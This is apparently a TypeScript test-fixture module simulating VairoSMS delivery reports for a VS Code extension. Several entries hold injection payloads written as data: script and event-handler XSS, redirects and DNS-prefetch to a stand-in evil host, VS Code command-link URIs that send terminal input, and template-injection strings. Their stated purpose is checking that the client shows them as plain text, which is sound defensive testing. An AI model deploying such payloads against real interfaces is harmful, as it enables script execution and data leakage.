// The reports the sandbox knows, keyed by send ID, then by number (the 10-digit Turkish form, "5399999999").
// Plain data plus the named constants tests use, so a test never repeats a magic number.
//
// To add a case: add an entry to one of the lists below (HOSTILE_MESSAGES is the usual one), give it a number that
// no other entry uses, and read that number from the exported constant in the test. Numbers are stable: never
// renumber an entry, only append.
//
// The values are what VairoSMS would put in `aciklama`, deliberately of loose types (ids as strings, durum_iade as
// "1" or true, dates without seconds): the API page gives only samples, and the client must be lenient.

/** One report object, exactly as it is serialized into `{"durum":true,"aciklama": …}`. */
export type RawReport = Readonly<Record<string, unknown>>;

/** What a report's answer may depend on: how often this number was queried on this sandbox (1 = first time). */
export interface QueryContext {
  /** 1-based count of successful queries of this send ID + number on this sandbox instance. */
  readonly query: number;
  /** How many queries a "progressing" number answers WAITING before it turns DELIVERED. */
  readonly progressAfter: number;
}

/** A fixed report, or one computed per query (the progressing number). */
export type Answer = RawReport | ((ctx: QueryContext) => RawReport);

/** The 11 documented durum_gonderim codes (docs/api.md). Kept here on purpose: the sandbox is the provider and
 *  does not import the extension's catalog. */
export const STATUS_CODES = [
  'DEFAULT',
  'SENDING',
  'WAITING',
  'DELIVERED',
  'SENT',
  'NOT_DELIVERED',
  'EXPIRED',
  'INVALID_DESTINATION_ADDRESS',
  'REJECTED',
  'SEND_ERROR',
  'BLACKLISTED_DESTINATION_ADDRESS',
] as const;
export type StatusCode = (typeof STATUS_CODES)[number];

// ---------------------------------------------------------------------------------------------------------------
// Send 187: the API page's own sample, one number per status, lenient variants, an unknown code, hostile texts and
// a number whose status progresses.

/** The API page's sample request: POST NumaraRaporu/187 {"numara":"5399999999"}. */
export const SAMPLE = { sendId: '187', number: '5399999999' } as const;

/** The API page's sample answer, verbatim. */
export const SAMPLE_REPORT: RawReport = {
  id: 3024,
  sms_gonderim_id: 187,
  numara: '5399999999',
  mesaj: 'Ben bir ceviz ağacıyım gülhane parkında (Ş ş Ğ ğ ç ı İ)',
  mesaj_boy: 1,
  durum_gonderim: 'DELIVERED',
  durum_iade: 0,
  created_at: '2016-08-01 14:30:14',
  updated_at: '2016-08-01 14:30:24',
};

/** The main send ID for everything below (the sample's). */
export const MAIN_SEND_ID = '187';

/** One number for each documented status, all in send 187. */
export const NUMBER_FOR_STATUS: Readonly<Record<StatusCode, string>> = {
  DEFAULT: '5301000001',
  SENDING: '5301000002',
  WAITING: '5301000003',
  DELIVERED: '5301000004',
  SENT: '5301000005',
  NOT_DELIVERED: '5301000006',
  EXPIRED: '5301000007',
  INVALID_DESTINATION_ADDRESS: '5301000008',
  REJECTED: '5301000009',
  SEND_ERROR: '5301000010',
  BLACKLISTED_DESTINATION_ADDRESS: '5301000011',
};

/** Messages with Turkish letters (ş ğ ı İ ç ö ü), one per status, as the texts a customer would really send. */
const STATUS_MESSAGES: Readonly<Record<StatusCode, string>> = {
  DEFAULT: 'Sipariş numaranız 48213. Kargonuz yarın öğleden sonra teslim edilecektir.',
  SENDING: 'Doğrulama kodunuz: 904417. Bu kodu kimseyle paylaşmayınız.',
  WAITING: 'Randevunuz 12 Şubat Çarşamba saat 14:30 için onaylandı. İptal için 0 yazıp gönderin.',
  DELIVERED: 'Ödemeniz alındı, teşekkür ederiz. Fatura bilgileriniz e-posta adresinize gönderildi.',
  SENT: 'Uluslararası gönderim denemesi: şu an teslim raporu alınamıyor (Güle güle, görüşürüz).',
  NOT_DELIVERED: 'Üyeliğiniz başarıyla oluşturuldu. Hoş geldiniz, İstanbul şubemizde görüşmek üzere!',
  EXPIRED: 'Tek kullanımlık şifreniz 5 dakika içinde geçersiz olacaktır: 771204.',
  INVALID_DESTINATION_ADDRESS: 'Aboneliğiniz yenilendi. Sorularınız için çağrı merkezimizi arayınız.',
  REJECTED: 'KAMPANYA! Tüm ürünlerde %50 indirim, hemen tıklayın: örnek.com.tr/fırsat',
  SEND_ERROR: 'Şifre sıfırlama talebiniz alındı. Bu işlemi siz yapmadıysanız lütfen bize ulaşın.',
  BLACKLISTED_DESTINATION_ADDRESS: 'Bu mesaj İYS onayı olmayan bir numaraya gönderilmek istendi; ılık öğüt: çöz.',
};

let nextRowId = 3100;
function report(number: string, fields: Readonly<Record<string, unknown>>): RawReport {
  return {
    id: nextRowId++,
    sms_gonderim_id: 187,
    numara: number,
    mesaj: 'Sandbox mesajı: çalışıyor.',
    mesaj_boy: 1,
    durum_gonderim: 'DELIVERED',
    durum_iade: 0,
    created_at: '2024-03-15 09:12:05',
    updated_at: '2024-03-15 09:12:41',
    ...fields,
  };
}

/** Reports whose fields have the loose types the API page's samples allow. */
export const LENIENT = {
  /** id and sms_gonderim_id as strings. */
  stringIds: '5302000001',
  /** durum_iade as the string "1" (refunded). */
  refundString1: '5302000002',
  /** durum_iade as the boolean true. */
  refundTrue: '5302000003',
  /** durum_iade as the string "0". */
  refundString0: '5302000004',
  /** created_at/updated_at without seconds ("2024-03-15 09:12"). */
  datesWithoutSeconds: '5302000005',
  /** mesaj_boy as the string "2". */
  partsAsString: '5302000006',
  /** durum_gonderim in lower case with spaces around it (" delivered "). */
  statusLowerCase: '5302000007',
  /** Every loose type at once, plus a field the documentation does not list. */
  allAtOnce: '5302000008',
} as const;

const LENIENT_REPORTS: Readonly<Record<string, RawReport>> = {
  [LENIENT.stringIds]: report(LENIENT.stringIds, { id: '3201', sms_gonderim_id: '187', durum_gonderim: 'DELIVERED' }),
  [LENIENT.refundString1]: report(LENIENT.refundString1, {
    durum_gonderim: 'NOT_DELIVERED',
    durum_iade: '1',
    mesaj: 'İade edilmiş gönderim (durum_iade "1").',
  }),
  [LENIENT.refundTrue]: report(LENIENT.refundTrue, {
    durum_gonderim: 'EXPIRED',
    durum_iade: true,
    mesaj: 'İade edilmiş gönderim (durum_iade true).',
  }),
  [LENIENT.refundString0]: report(LENIENT.refundString0, { durum_iade: '0' }),
  [LENIENT.datesWithoutSeconds]: report(LENIENT.datesWithoutSeconds, {
    created_at: '2024-03-15 09:12',
    updated_at: '2024-03-15 09:14',
  }),
  [LENIENT.partsAsString]: report(LENIENT.partsAsString, {
    mesaj_boy: '2',
    mesaj:
      'Bu mesaj iki parçadan oluşuyor çünkü Türkçe karakterler (ş, ğ, ı, İ, ç, ö, ü) tek bir SMS parçasına sığan ' +
      'karakter sayısını 70 ile sınırlar; bu yüzden uzun metinler birden fazla parça olarak gönderilir.',
  }),
  [LENIENT.statusLowerCase]: report(LENIENT.statusLowerCase, { durum_gonderim: ' delivered ' }),
  [LENIENT.allAtOnce]: report(LENIENT.allAtOnce, {
    id: '3202',
    sms_gonderim_id: '187',
    mesaj_boy: '3',
    durum_iade: 'true',
    durum_gonderim: 'sent',
    created_at: '2024-03-15 09:12',
    updated_at: '2024-03-15T09:20:00',
    operator: 'Turkcell',
    fiyat: '0.0125',
  }),
};

/** A status code the documentation does not list. */
export const UNKNOWN_STATUS = { number: '5303000001', code: 'DOUBLE_SEND_ERROR' } as const;

/** Message texts that must be shown literally, never interpreted (docs/reliability.md, row 1).
 *  Append new payloads here with a fresh number; NUMBER_FOR_HOSTILE picks them up by name. */
export interface HostileEntry {
  readonly name: string;
  readonly number: string;
  readonly mesaj: string;
}
export const HOSTILE_MESSAGES: readonly HostileEntry[] = [
  {
    name: 'img-script',
    number: '5366600001',
    mesaj: `<img src=x onerror=alert(1)><script>document.title='pwned'</script>`,
  },
  {
    name: 'attribute-breakout',
    number: '5366600002',
    mesaj: `"><img src=x onerror="document.title='pwned'">'><svg onload=alert(1)>`,
  },
  {
    name: 'pre-breakout',
    number: '5366600003',
    mesaj: `</pre></code></td><svg onload="document.title='pwned'"></svg>`,
  },
  {
    name: 'base-meta',
    number: '5366600004',
    mesaj: `<base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/">`,
  },
  {
    name: 'dns-prefetch',
    number: '5366600005',
    mesaj: `<link rel=dns-prefetch href=//DATA.evil.invalid><link rel=stylesheet href=https://evil.invalid/x.css>`,
  },
  {
    name: 'command-uri',
    number: '5366600006',
    mesaj: `[Tıkla](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D) $(alert) javascript:alert(1) [x](javascript:alert(1))`,
  },
  {
    name: 'bidi-zero-width',
    number: '5366600007',
    mesaj: `Fatura\u202Eexe.pdf\u202C ödendi\u200B\u200C\u200D\uFEFF İıŞğ 😀👍🏽`,
  },
  { name: 'long-line', number: '5366600008', mesaj: 'Ş'.repeat(10) + 'A'.repeat(100_000 - 20) + 'ğ'.repeat(10) },
  {
    name: 'template-injection',
    number: '5366600009',
    mesaj: '${process.exit(1)} {{constructor.constructor("alert(1)")()}} <%= 7*7 %> `whoami`',
  },
];

/** The first hostile message (an <img onerror> and a <script>). */
export const HOSTILE_NUMBER = HOSTILE_MESSAGES[0].number;
export const NUMBER_FOR_HOSTILE: Readonly<Record<string, string>> = Object.fromEntries(
  HOSTILE_MESSAGES.map((h) => [h.name, h.number]),
);

/** A report whose every other field is hostile too: the echoed number, the status, the dates, the refund flag and
 *  an undocumented field (name and value). All must be shown as text (reliability row 1). */
export const HOSTILE_FIELDS = {
  number: '5366600010',
  numara: `<img src=x onerror="document.title='pwned'">5366600010`,
  status: `<svg onload="document.title='pwned'">`,
  createdAt: `<script>document.title='pwned'</script>`,
  updatedAt: `[x](command:workbench.action.reloadWindow)`,
  refund: `<b onmouseover=alert(1)>1</b>`,
  extraName: `<i onclick=alert(1)>gsm_error</i>`,
  extraValue: `<a href="javascript:alert(1)">27</a>`,
} as const;

/** Text that VS Code would render as a command link in a notification: a report whose status is one (upper-cased by
 *  the parser, which does not defuse it), and lines of a number list (docs/reliability.md, row 20). */
export const LINK_PAYLOADS = [
  '[Accepted formats](command:vairosms.clearHistory?[true])',
  '[RUN](COMMAND:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22echo%20pwned%5Cn%22%7D)',
  '%5Bx%5D(command%3Avairosms.clearHistory%3F%5Btrue%5D)',
  '<a href="command:vairosms.clearHistory?[true]">x</a>',
  '[x](https://example.invalid/?q=1)',
] as const;
export const LINK_STATUS = { number: '5366600020', status: LINK_PAYLOADS[0] } as const;

/** A number whose status moves WAITING → DELIVERED: the first `progressAfter` queries (default 2) answer WAITING,
 *  later ones DELIVERED with a later updated_at. Counted per sandbox instance; Sandbox.resetProgress() restarts it. */
export const PROGRESSING = { sendId: '187', number: '5304000001' } as const;
export const DEFAULT_PROGRESS_AFTER = 2;

function progressing({ query, progressAfter }: QueryContext): RawReport {
  const delivered = query > progressAfter;
  return {
    id: 3300,
    sms_gonderim_id: 187,
    numara: PROGRESSING.number,
    mesaj: 'Kargonuz yola çıktı; takip numarası 7788. İyi günler dileriz.',
    mesaj_boy: 1,
    durum_gonderim: delivered ? 'DELIVERED' : 'WAITING',
    durum_iade: 0,
    created_at: '2024-03-15 10:00:00',
    updated_at: delivered ? '2024-03-15 10:03:27' : '2024-03-15 10:00:02',
  };
}

function buildMainSend(): Record<string, Answer> {
  const send: Record<string, Answer> = { [SAMPLE.number]: SAMPLE_REPORT };
  send[HOSTILE_FIELDS.number] = report(HOSTILE_FIELDS.number, {
    numara: HOSTILE_FIELDS.numara,
    durum_gonderim: HOSTILE_FIELDS.status,
    created_at: HOSTILE_FIELDS.createdAt,
    updated_at: HOSTILE_FIELDS.updatedAt,
    durum_iade: HOSTILE_FIELDS.refund,
    [HOSTILE_FIELDS.extraName]: HOSTILE_FIELDS.extraValue,
  });
  for (const code of STATUS_CODES) {
    send[NUMBER_FOR_STATUS[code]] = report(NUMBER_FOR_STATUS[code], {
      durum_gonderim: code,
      mesaj: STATUS_MESSAGES[code],
      durum_iade:
        code === 'NOT_DELIVERED' || code === 'INVALID_DESTINATION_ADDRESS' || code === 'BLACKLISTED_DESTINATION_ADDRESS'
          ? 1
          : 0,
      updated_at: code === 'DEFAULT' ? '2024-03-15 09:12:05' : '2024-03-15 09:12:41',
    });
  }
  Object.assign(send, LENIENT_REPORTS);
  send[UNKNOWN_STATUS.number] = report(UNKNOWN_STATUS.number, {
    durum_gonderim: UNKNOWN_STATUS.code,
    mesaj: 'Bilinmeyen durum kodu denemesi.',
  });
  for (const h of HOSTILE_MESSAGES) {
    send[h.number] = report(h.number, { mesaj: h.mesaj, mesaj_boy: Math.max(1, Math.ceil(h.mesaj.length / 67)) });
  }
  send[PROGRESSING.number] = progressing;
  send[LINK_STATUS.number] = report(LINK_STATUS.number, { durum_gonderim: LINK_STATUS.status });
  send[OVERSIZED.number] = oversizedReport();
  send[TWELVE_DIGIT.stored] = report(TWELVE_DIGIT.stored, { durum_gonderim: 'DELIVERED' });
  return send;
}

/** A number send 187 holds only in its 12-digit form: looked up as typed (10 digits) it is not found, and the
 *  panel offers the other form once. */
export const TWELVE_DIGIT = { typed: '5307000001', stored: '905307000001' } as const;

// ---------------------------------------------------------------------------------------------------------------
// Send 500: a large send for batch tests.

/** 1,000 numbers 5320000000 … 5320000999; number i has status STATUS_CODES[i % 11]. */
export const BATCH = { sendId: '500', firstNumber: 5320000000, count: 1000 } as const;

export function batchNumber(i: number): string {
  return String(BATCH.firstNumber + i);
}

export function batchStatus(i: number): StatusCode {
  return STATUS_CODES[i % STATUS_CODES.length];
}

function buildBatchSend(): Record<string, Answer> {
  const send: Record<string, Answer> = {};
  for (let i = 0; i < BATCH.count; i++) {
    const minute = String(Math.floor(i / 60) % 60).padStart(2, '0');
    const second = String(i % 60).padStart(2, '0');
    send[batchNumber(i)] = {
      id: 50000 + i,
      sms_gonderim_id: 500,
      numara: batchNumber(i),
      mesaj: `Toplu gönderim #${i}: Değerli müşterimiz, şubemiz bugün 09:00–18:00 arası açıktır.`,
      mesaj_boy: 1,
      durum_gonderim: batchStatus(i),
      durum_iade: 0,
      created_at: `2024-04-01 08:${minute}:${second}`,
      updated_at: `2024-04-01 09:${minute}:${second}`,
    };
  }
  return send;
}

// ---------------------------------------------------------------------------------------------------------------
// Send 600: 10,000 numbers whose answers are about 200 KB each (a unique message), for the batch memory bench.

export const BIG = { sendId: '600', firstNumber: 5330000000, count: 10_000, messageBytes: 200 * 1024 } as const;

export function bigNumber(i: number): string {
  return String(BIG.firstNumber + i);
}

const BIG_FILLER = 'Değerli müşterimiz, kişiye özel kampanya metniniz hazırdır; ayrıntılar için şubemize uğrayın. ';

function bigReport(i: number): RawReport {
  const head = `Kişisel mesaj #${i} (${bigNumber(i)}): `;
  return {
    id: 600000 + i,
    sms_gonderim_id: 600,
    numara: bigNumber(i),
    mesaj:
      head +
      BIG_FILLER.repeat(Math.ceil((BIG.messageBytes - head.length) / BIG_FILLER.length)).slice(
        0,
        BIG.messageBytes - head.length,
      ),
    mesaj_boy: 1,
    durum_gonderim: STATUS_CODES[i % STATUS_CODES.length],
    durum_iade: 0,
    created_at: '2024-05-01 08:00:00',
    updated_at: '2024-05-01 08:00:10',
  };
}

/** A report far over every cap (docs/reliability.md, row 24): a 300 K-character message and 40 undocumented fields
 *  of 2 K characters each, in send 187. */
export const OVERSIZED = { number: '5366600030', messageLength: 300_000, extraFields: 40, extraLength: 2048 } as const;

function oversizedReport(): RawReport {
  const extra: Record<string, string> = {};
  for (let f = 0; f < OVERSIZED.extraFields; f++) extra[`alan_${f}`] = String(f % 10).repeat(OVERSIZED.extraLength);
  return report(OVERSIZED.number, { mesaj: 'Ç'.repeat(OVERSIZED.messageLength), ...extra });
}

// ---------------------------------------------------------------------------------------------------------------
// Send summaries (GonderimBilgisi). Times that must lie around "now" are computed per request, in Turkey time.

/** A provider time ("2024-05-01 08:00:00", Turkey time) `offsetMs` from now. */
export function turkeyTime(offsetMs: number, now = Date.now()): string {
  return new Date(now + offsetMs + 3 * 3600_000).toISOString().slice(0, 19).replace('T', ' ');
}

const ZERO_DATE = '0000-00-00 00:00:00';
const HOUR = 3600_000;

/** Sends with a summary story of their own (each has one number in it: SUMMARY_SENDS[x].number). */
export const SUMMARY_SENDS = {
  /** Scheduled two days ahead; its number is DEFAULT. */
  scheduled: { sendId: '710', number: '5301000001' },
  /** Failed while sending (paket_durum -1), with a log; its number is DEFAULT. */
  failed: { sendId: '711', number: '5301000001' },
  /** Every value a string ("0", "2", "12:00"), dates without seconds, an unknown field. */
  lenient: { sendId: '712', number: '5301000003' },
  /** The summary fails (an HTML 502) while the number's report works (DELIVERED). */
  summaryFails: { sendId: '713', number: '5301000004' },
  /** Every summary field hostile, and a 200 KB log. */
  hostile: { sendId: '714', number: '5301000001' },
  /** The summary's body never ends. */
  endless: { sendId: '715', number: '5301000004' },
} as const;

export const FAILED_LOG = {
  hata: 'Yetersiz kredi',
  kod: 'E102',
  ayrinti: ['Kredi bakiyesi 0', 'Gönderim iptal edildi'],
};

export const HOSTILE_SUMMARY = {
  sender: `<img src=x onerror="document.title='pwned'">0850`,
  state: '[x](command:workbench.action.reloadWindow)',
  validity: '<script>alert(1)</script>',
  extraName: '<b onclick=alert(1)>kanal</b>',
  log: `<script>document.title='pwned'</script>${'Ş'.repeat(200_000)}`,
} as const;

/** The one send of the sandbox's second account (SandboxOptions.secondKey): the first key cannot see it. */
export const SECOND_ACCOUNT = { sendId: '801', number: '5308000001', waiting: '5308000002' } as const;

/** The answer's `aciklama` for a send's summary; undefined: no such send. `fault`: answer with that status and body. */
export function findSummary(sendId: string, now = Date.now()): Record<string, unknown> | undefined {
  switch (sendId) {
    case MAIN_SEND_ID:
      return {
        id: 187,
        sms_baslik: '08505326480',
        numara_toplam: 30,
        kredi_toplam: 30,
        sonlanma_zamani: ZERO_DATE,
        ileri_tarih: ZERO_DATE,
        gecerlilik_suresi: '24:00:00',
        paket_durum: 0,
        created_at: turkeyTime(-HOUR, now),
      };
    case BATCH.sendId:
    case BIG.sendId:
      return {
        id: Number(sendId),
        sms_baslik: 'VAIROSMS',
        numara_toplam: sendId === BATCH.sendId ? BATCH.count : BIG.count,
        kredi_toplam: sendId === BATCH.sendId ? BATCH.count : BIG.count,
        sonlanma_zamani: '2024-04-01 09:30:00',
        ileri_tarih: ZERO_DATE,
        gecerlilik_suresi: '24:00:00',
        paket_durum: 1,
        created_at: '2024-04-01 08:00:00',
      };
    case SECOND_ACCOUNT.sendId:
      return {
        id: 801,
        sms_baslik: 'MUSTERI2',
        numara_toplam: 2,
        kredi_toplam: 2,
        sonlanma_zamani: turkeyTime(-HOUR / 2, now),
        ileri_tarih: ZERO_DATE,
        gecerlilik_suresi: '24:00:00',
        paket_durum: 1,
        created_at: turkeyTime(-HOUR, now),
      };
    case SUMMARY_SENDS.scheduled.sendId:
      return {
        id: 710,
        sms_baslik: '08505326480',
        numara_toplam: 1,
        kredi_toplam: 1,
        sonlanma_zamani: ZERO_DATE,
        ileri_tarih: turkeyTime(2 * 24 * HOUR, now),
        gecerlilik_suresi: '24:00:00',
        paket_durum: 0,
        created_at: turkeyTime(-HOUR, now),
      };
    case SUMMARY_SENDS.failed.sendId:
      return {
        id: 711,
        sms_baslik: '08505326480',
        numara_toplam: 1,
        kredi_toplam: 0,
        sonlanma_zamani: ZERO_DATE,
        ileri_tarih: ZERO_DATE,
        gecerlilik_suresi: '24:00:00',
        paket_durum: -1,
        created_at: turkeyTime(-2 * HOUR, now),
        log: FAILED_LOG,
      };
    case SUMMARY_SENDS.lenient.sendId:
      return {
        id: '712',
        sms_baslik: 'VAIRO',
        numara_toplam: '2',
        kredi_toplam: '2',
        sonlanma_zamani: '0000-00-00',
        ileri_tarih: '',
        gecerlilik_suresi: '12:00',
        paket_durum: '0',
        created_at: turkeyTime(-HOUR, now).slice(0, 16),
        kanal: 'api',
      };
    case SUMMARY_SENDS.hostile.sendId:
      return {
        id: 714,
        sms_baslik: HOSTILE_SUMMARY.sender,
        numara_toplam: 1,
        kredi_toplam: 1,
        sonlanma_zamani: ZERO_DATE,
        ileri_tarih: ZERO_DATE,
        gecerlilik_suresi: HOSTILE_SUMMARY.validity,
        paket_durum: HOSTILE_SUMMARY.state,
        created_at: turkeyTime(-HOUR, now),
        [HOSTILE_SUMMARY.extraName]: HOSTILE_SUMMARY.extraName,
        log: HOSTILE_SUMMARY.log,
      };
    default:
      return undefined;
  }
}

// ---------------------------------------------------------------------------------------------------------------

/** Every send the sandbox knows: send ID → number → answer. */
export const SENDS: Readonly<Record<string, Readonly<Record<string, Answer>>>> = {
  [MAIN_SEND_ID]: buildMainSend(),
  [BATCH.sendId]: buildBatchSend(),
  [SECOND_ACCOUNT.sendId]: {
    [SECOND_ACCOUNT.number]: {
      ...report(SECOND_ACCOUNT.number, { durum_gonderim: 'DELIVERED' }),
      sms_gonderim_id: Number(SECOND_ACCOUNT.sendId),
    },
    [SECOND_ACCOUNT.waiting]: {
      ...report(SECOND_ACCOUNT.waiting, { durum_gonderim: 'WAITING' }),
      sms_gonderim_id: Number(SECOND_ACCOUNT.sendId),
    },
  },
  ...Object.fromEntries(
    Object.values(SUMMARY_SENDS).map(({ sendId, number }) => [
      sendId,
      {
        [number]: {
          ...report(number, { durum_gonderim: STATUS_CODES.find((c) => NUMBER_FOR_STATUS[c] === number) ?? 'DEFAULT' }),
          sms_gonderim_id: Number(sendId),
        },
      },
    ]),
  ),
};

export type Found =
  { readonly found: true; readonly report: RawReport } | { readonly found: false; readonly missing: 'send' | 'number' };

/** The report of one number in one send. `ctx` is only consulted by computed answers. */
export function findReport(sendId: string, number: string, ctx: QueryContext): Found {
  if (sendId === BIG.sendId) {
    const i = Number(number) - BIG.firstNumber;
    return i >= 0 && i < BIG.count && /^\d+$/.test(number)
      ? { found: true, report: bigReport(i) }
      : { found: false, missing: 'number' };
  }
  const send = Object.prototype.hasOwnProperty.call(SENDS, sendId) ? SENDS[sendId] : undefined;
  if (!send) return { found: false, missing: 'send' };
  const answer = Object.prototype.hasOwnProperty.call(send, number) ? send[number] : undefined;
  if (!answer) return { found: false, missing: 'number' };
  return { found: true, report: typeof answer === 'function' ? answer(ctx) : answer };
}

/** True when the answer for this number depends on how often it was queried. */
export function isComputed(sendId: string, number: string): boolean {
  return typeof SENDS[sendId]?.[number] === 'function';
}
